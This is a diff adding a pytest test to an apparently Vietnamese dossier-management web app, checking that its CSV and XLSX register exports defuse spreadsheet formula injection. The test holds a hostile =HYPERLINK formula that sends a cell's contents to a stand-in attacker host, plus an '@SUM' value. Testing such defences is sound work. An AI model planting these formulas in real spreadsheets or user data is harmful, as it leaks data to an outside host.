@@ -282,3 +282,29 @@ def test_overdue_is_shown_in_the_queue(client, db, in_progress, staff):
         assert "Quá hạn" in page and "is-overdue" in page
         page = client.get(f"/officer/dossiers/{in_progress.id}").get_data(as_text=True)
         assert "quá hạn" in page
+
+
+def test_the_book_exports_keep_formulas_out_and_types_in(client, db, in_progress, staff):
+    from datetime import datetime as dt
+
+    hostile = '=HYPERLINK("http://evil.example/?x="&B2,"Click")'
+    in_progress.enterprise.name = hostile
+    in_progress.enterprise.address = "@SUM(1+1)"
+    db.session.commit()
+    act_as(client, staff["desk"])
+    today = utcnow().astimezone(VN).date()
+    query = {"start": today.isoformat(), "end": today.isoformat()}
+
+    response = client.get("/officer/book.csv", query_string=query)
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[1][4] == "'" + hostile and rows[1][5].startswith("'@SUM(1+1)")
+    assert rows[1][0] == str(in_progress.book_serial)
+
+    sheet = load_workbook(io.BytesIO(client.get("/officer/book.xlsx", query_string=query).data)).active
+    serial, name, received = sheet.cell(3, 1), sheet.cell(3, 5), sheet.cell(3, 8)
+    assert name.value == hostile and name.data_type == "s"  # a string, not a formula
+    assert serial.value == in_progress.book_serial and serial.data_type == "n"
+    assert isinstance(received.value, dt) and received.is_date
+    local = in_progress.received_at.astimezone(VN).replace(tzinfo=None)
+    assert abs((received.value - local).total_seconds()) < 1  # local time, as the desk reads it
